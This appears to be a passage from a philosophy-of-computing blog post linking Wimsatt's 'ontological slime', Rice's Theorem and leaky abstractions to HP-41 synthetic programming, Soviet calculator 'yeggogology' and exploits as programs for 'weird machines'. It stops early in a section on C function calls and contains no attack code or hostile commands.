Feral Machines

yeggogological meditations

Home  About  Tags  Links  FAQ  RSS  P'log

Secrets of the Ooze

Length: 6384 words

The Story So Far...

Over at Conflated Automatons, Adam has posted a third installment of a series on coding, ambiguity, and "ontological slime", responding to this post over at The Last Instance -- which, in turn, was replying to this one, again by Adam.

The theme connecting these posts is that penumbra of the vague, the inelegant, and the arbitrary that creeps up on us where programs interact with the "outside world", and the ontological decisions that programmers are called upon to make when navigating that murky terrain.

This experience isn't unique to programming, of course. "There are many times in science and engineering," in general, Adam notes,

when we can not solve problems using universal rules. William Wimsatt names these conditions of highly localized rules "ontological slime", and the complex feedback mechanisms that accompany them "causal thickets".

The Slime Is Seeping from Inside the House

While the emphasis in Adam's first post is on the little decisions by which software engineers collapse ambiguity by fiat -- abjuring the ambiguity of sorites problems, for example, by mapping heaps and herds and so on to unambiguous formal structures -- Dominic's response at The Last Instance, "Digital Goop", draws attention to howreification in such cases is not a matter of spiriting away the fuzzily empirical particularity of the domain into a crisp, frictionlessly powerful, abstract notion. It is rather the construction of a machine that mediates between domains: a "thingifier" which adapts one sort of thingliness for the purposes of another. [...] It is simultaneously a theory about the world, and a theory about the means at hand for dealing with the world.

Software often becomes "slimy" -- that is, a tissue of entangled local compromises -- simply as a consequence of dealing with a rather slimy world. This insight carries over into the third installment in thisdialogue, with Adam's most recent post:

Especially insoftware, and its everyday entanglement with human societies and institutions, general rules are an exception. Once you find them, they are one of the easy bits. Software is made of both planes of regularity and vast quantities of ontological slime.

But where things get particularly interesting, I think, is when we observe that this "sliminess", or recalcitrance to generality, isn't just a consequence of software's congress with its other -- as if, in its own Platonic abode, computation would be able to grasp itself clearly and dryly.

The Limits of Static Analysis

Computation itself is recalcitrant to generalization, in some very precise ways. For any non-trivial property, it is strictly impossible to define a "universal rule" that would let you partition the universe of programs into those which have that property, and those which do not. This is the upshot of Rice's Theorem, a corollary of Turing's Halting Theorem. This doesn't mean that we can't concoct rules (algorithms) that still do a pretty good job of deciding, for a given program P, whether or not P exhibits some interesting property. But "pretty good", here, cannot mean certain or universally applicable, and it is this gaping impasse that the science of static program analysis must forever circumnavigate. There exist a great many methods of static analysis, but every single one of them represents a certain compromise with this impossibility at the heart of computation: they may be

  1. unsound (prone to false positives),
  2. incomplete (prone to false negatives), or
  3. occasionally, and unpredictably, non-terminating.

In effect, even our rulesfor analysing that most general of things in computer science -- the program -- are insuperably partial. It is in this sense that, in the domain of computation, "the One is not". (And, just as in set theory, the reason for this has to do, at bottom, with the logical structure of diagonalization.) It's not just when it's forced to deal with "the real world" that computer science gets tangled in the thicket of uncertainty. Like someone -- was it Hegel? -- once said about the Concept: computation wants nothing more than to grasp itself, but it ever stands in its own way.

Compiler Ontology

Though Adam doesn't mention these principled limits to universality in computational reflexivity, the theme of reflection does come up in an interesting way in his discussion of compilation:

Hopper invented the first compiler: an ontology-kneading machine. By providing machine checkable names that correspond to words in natural language, it constructs attachment points for theory construals, stabilizing them, and making it easier for theories to be rebuilt and shared by others working on the same system. Machine code – dense, and full of hidden structure – is a rather slimy artifact itself. Engineering an ontological layer above it – the programminglanguage – is, like the anti-sorites, a slime refinement manoeuvre.

What does "full of hidden structure" mean, here? Why is it hidden, and what is it hidden from? Well, we know, already, that the tangle of structure in a piece of code is at least hidden from any universal and a priori viewpoint. It's never unknowable, but our knowledge of what structures lie within must be won locally, in a case by case fashion.

Ithink it's quite helpful to think of a compiler as a mapping from a scaffolding for "theory construals" -- a programming language, outfitted with its system of abstractions: functions, datatypes, and so on -- to a domain on which these abstractions are traced, but which they do not, necessarily, constrain. Of course, it's the source language and its compiler's job to ensure that the behaviour of the dark ocean onto which these abstractions are mapped is indeed constrained by the abstractions in question -- whether through compile-time checks, or just by providing the programmer with arcane warnings regarding undefined behaviour. The compiler reasons about its target's dynamics so that you, the source code programmer, don't have to. It facilitates and remediates a threshold of competence, and creates a hierarchy of "ontological levels", in Wimsatt's sense.


But mistakes happen, and sometimes our carefully traced abstractions "leak", with a consequent leakage between ontological levels.

Interestingly, William Wimsatt, in "The Ontology of Complex Systems: Levels of Organization, Perspectives, and Causal Thickets" -- the source of the ontological categories with which this discussion, from its beginning on Conflated Automatons onwards, has been framed -- draws his paradigmatic illustration of the phenomenon ofontological "level leakage" from the domain of software engineering:

The ways in which we exploit "level leakage" to gain access to other levels became much clearer to me through my involvement in 1979-81 in helping to program a custom ROM module for the Hewlett-Packard HP-41C programmable calculator. The calculator was designed to be programmed in RPN, (for "Reverse Polish Notation"), a sort of assembly-level language which allowed direct manipulation of program instructions, numbers and alphabetical characters in a controlled regionof the calculator's memory, preventing access to other regions of memory used by the calculators "system software", on the other side of a "curtain". A "bug" in the definition of some of the keyboard functions on some early calculators gave unintended ways of creating new "synthetic instructions" which gave ways of moving the "curtain" and of directly manipulating the contents of control registers behind the curtain on all HP-41 calculators, whether they had that bug or not. This led to a new machine-specific discipline, called "synthetic programming", which gave the synthetic programmer control over many things on the HP-41 that Hewlett-Packard engineers never intended (e.g., individual elements in the LCD display, and individual pixels in the printer output, and the ability to do all sorts of bit manipulations to compose new kinds of instructions). ‘Synthetic programming’ thus gave new capabilities, and sometimes striking increases in efficiency, speed or power. On the down side, it also gave new and dangerous ways of "crashing" the calculator, and exploiting this new resource required much greater knowledge of the details of the machine, such as the Hexidecimal code for all machine instructions, and greater knowledge of how theyworked, and how they interacted with the hardware. See the 500+ page PPC ROM User's Manual, 1981 for the section on the history and description of "Synthetic Programming" and also a later (1982) book of that same title by its main developer, William Wickes.

Leaky AbstractionsThe metaphor of "leakage" will ringfamiliar to the ears of many of programmer. Programming folklore even has a name for the oft-repeated observation that All non-trivial abstractions, to some degree, are leaky: Spolsky's Law.

It's more of a rule of thumb, really, than a law of computation (in the sense that, say, Rice's Theorem gives us a "law of computation"). But exceptions are few and far between, and, for any particular case, it's good practice to assume the truth of Spolsky's Law unless the contrary can be proven.

"Abstractions", in Spolsky's sense, are very close to what Wimsatt calls "ontological levels": these are not simply discursive or ideal entities, but real systems of entities and interactions, each of which is best (or, at least, most expediently) understood with reference to other entities and interactions lying on the same plane of abstraction, the same "ontological level" -- until the level springs a leak, and the task understanding falls to the hacker.

Into the Warren

Let's stay with Wimsatt's example of ontological leakage a little longer. Wikipedia's entry on Synthetic Programming (HP-41)) elaborates a little on the technique that Wimsatt describes:

Synthetic programming uses a bug in the calculator firmware to enter those byte sequences as a sequence of other instructions, then partially skipping halfway through the first instruction, so that the calculator believes the end of the first instruction is actually the beginning of a new one.


I haven't yet been able to find a copy of Wickes' book (pictured above), but the level of nerd sniping evident on its back cover alone -- with its Carrollian paen to calculator hacking -- has me at its mercy.




'Twas octal, and the synthetic codes Were scanned without a loss. In and out of PRGM mode, Byte-jumpers nybbled the CMOS.

"Beware o' STO c, my son, TheMEMORY LOST, the keyboard lock. Beware the NNN, and shun The curious phase 1 clock."

He took his black box codes in hand Long time the backwards goos he sought; The secret beast from Aitchpee land-- All searches came to nought.

In demented thought he stood, and then: The goose, with LCD's alight, A leap for every LBL 10, Came honking left-to-right!

STO b! STO d!, and RCL P! His keyboard went clickety-clack. With the proper code in number mode The goose came flapping back.

"And hast thou found the phantom fowl? Come to my arms, my binary boy. Let Corvallis hear us how As we chortle in our joy!"'Twas octal, and the synthetic codes Were scanned without a loss. In and out of PRGM mode, Byte-jumpers nybbled the CMOS.

--Apologies to Lewis Carroll

Spelunking this rabbithole has gotten me nerd-sniped by some truly delightful findings -- my favourite of which is the term that Russian hackers (stop) concocted to describe their forays into programmable calculator exploitation in the mid-80s: yeggogology. Wikipedia offers the following explanation:This series of calculators [i.e., ones using the B3-34 instruction set] was also noted for a large number of highly counter-intuitive mysterious undocumented features, not unlike the "synthetic programming" of the American HP-41, which were exploited by applying normal arithmetic operations to error messages, jumping to non-existent addresses and other techniques. A clever step away from the documented path would often cause some highly unusual things. [...] A number of respected monthly publications, including the popular science magazine "Nauka i Zhizn" ("Science and Life"), featured special columns, dedicated to optimization techniques for calculator programmers and updates on undocumented features for hackers, which grew into a whole esoteric science with many branches, known as "errorology" (Russian "еггогология," transliterated "yeggogologiya"). The error messages on those calculators were intended to appear as the English word "Error", which to the Russians looked like a meaningless "ЕГГОГ" (YEGGOG).

How this word is not on every red-blooded hacker's lips is a mystery to me. The closest equivalent term I can think of would just be "hacking", in its truest sense, though it casts too broad a net (evenwithout rehashing moribund 90s debates on the merits of "hacking" vs "cracking"). "The Science of Insecurity" works, but feels like a description in search of a name. But we do, at least, have a perfectly good term -- and, better, a concept -- for the subject matter of yeggogilogical research:"weird machines".

Weird Machines

The term seems to have been first introduced by Sergey Bratus, but has received its most systematic definition through the work of Halvar Flake (aka Thomas Dullien). The basic idea is as follows:

To begin with, we can view any software system as a finite automaton, or "state machine", of some form, which transitions from state to state in response to user input. In a certain, very real sense, the input that the user provides is the "code" for that state machine. When you push the buttons on your SNES controller, for example, you are submitting a sequence of instructions to the Super Mario World machine, and which state it enters at each moment is entirely dependent on which state it was in, and which "instruction" you gave it.

But the state machine that describes Mario's world is not, itself, identical to the vastly more complex state machine that is the Super Nintendo's 65c816 instruction set architecture, in which the former is implemented, and on which it supervenes.

Like the intended finite state machines that describe any piece of software, a weird machine, too, is a virtual machine, a real abstraction supervening on an underlying computational system. But unlike the state machine that describes, say, Super Mario World, or the 65c816 ISA of the SNES, weird machines are not designed. Their creation is not deliberate,but spontaneous. They are not so much invented as discovered.

Their creation, and discovery, takes place by first forcing a state machine -- a software application -- into a state that falls outside of its intended design. This is what we call a "weird state". In the case of the programmable calculators discussed above, this may be achieved by "applying normal arithmetic operations to error messages, jumping to non-existent addresses" or some other "clever step away from the documented path".

If this "weird state" does not immediately crash thesystem, then it may be possible to continue to apply the transitions of the state machine, and shift the system from one weird state into another. From there, a new computational system unfolds, a chimera that plunges us beneath the ontological level that makes up the game world, for example, or the state machine that interfaces with the user, and takes us into a strange and undesigned environment, an artificial wilderness.

The task of the hacker -- the yeggologist -- is to discover, initialize, and then program weird machines. What we call "exploits" are nothing more, and nothing less, than programs for weird machines. When you can pull it off, itlooks like nothing so much as sorcery.

Like the compiler, the yeggologist traverses between at least two distinct "ontological levels", but does so obliquely -- breaking the surface of the application layer by way of a fault, an error, or a weird state, and diving into an ill-defined, and often entirely uncharted region that has formed, spontaneously, between computational/ontological levels.

Smashing Ontologies for Fun and Profit

Let's take the idea of a "function" or "subroutine" in an imperative language, like C, for an example. What's the "theory of the function" that the programmer's working with? Without trying to get too formal, it's something like this: by calling a function, I temporarily hand over control to the code in the function definition. The computer executes that code, and then returns control to the instruction immediately following the function call.

